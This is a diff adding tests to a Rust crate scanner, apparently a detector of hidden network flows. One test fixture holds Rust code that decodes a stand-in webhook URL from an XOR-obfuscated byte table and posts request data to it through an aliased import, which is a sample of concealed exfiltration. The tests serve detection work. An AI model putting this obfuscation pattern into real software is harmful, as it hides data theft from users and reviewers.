@@ -11,6 +11,7 @@ from hypothesis import strategies as st
 from cratewatch.scan.crate import scan_crate
 from cratewatch.scan.dataflow import MAX_BOUNDARIES, MAX_FUNCTIONS, DataFlow, opaque, unit_flows
 from cratewatch.scan.dataflow.facts import fixed_address
+from cratewatch.scan.dataflow.hints import UnitText
 from cratewatch.scan.dataflow.labels import grown
 from cratewatch.scan.extract import CrateArchive
 
@@ -194,6 +195,35 @@ def test_a_decoder_given_a_module_s_constant_among_a_macro_s_tokens_is_run() -> 
     )
     found = unit_flows({"src/lib.rs": source.encode()}, "sample")
     assert [name.text for name in found.revealed] == ["https://hooks.example/v1"]
+
+
+def test_a_decoder_imported_under_another_name_is_run_where_the_alias_is_called() -> None:
+    table = (
+        "pub const U: [u8; 24] = [42, 54, 54, 50, 49, 120, 109, 109, 42, 45, 45, 41,"
+        " 49, 108, 39, 58, 35, 47, 50, 46, 39, 109, 52, 115];\n"
+        "pub fn label(d: &[u8]) -> String { d.iter().map(|b| (b ^ 0x42) as char).collect() }\n"
+    )
+    source = (
+        "mod table;\n"
+        "use crate::table::{label as p, U};\n"
+        "fn f(body: String) { let _ = ureq::post(&p(&U)).send_string(&body); }\n"
+    )
+    found = unit_flows({"src/lib.rs": source.encode(), "src/table.rs": table.encode()}, "s")
+    assert [name.text for name in found.revealed] == ["https://hooks.example/v1"]
+    assert ("src/lib.rs", "request URL", "contact", True) in [
+        (f.file, f.sink, f.action, f.hidden) for f in found.flows
+    ]
+
+
+def test_an_alias_given_two_meanings_and_casts_in_a_list_are_no_aliases() -> None:
+    text = UnitText(
+        {
+            "src/a.rs": b"use crate::x::{one as p, two};\nfn g(a: u32, b: u64) { h((a, b as u8, 1)); }",
+            "src/b.rs": b"use crate::y::other as p;\nuse crate::z::three as q;\n",
+        },
+        None,
+    )
+    assert text.aliases() == {"q": "three"}
 
 
 def test_names_decoded_from_constants_are_hidden() -> None:
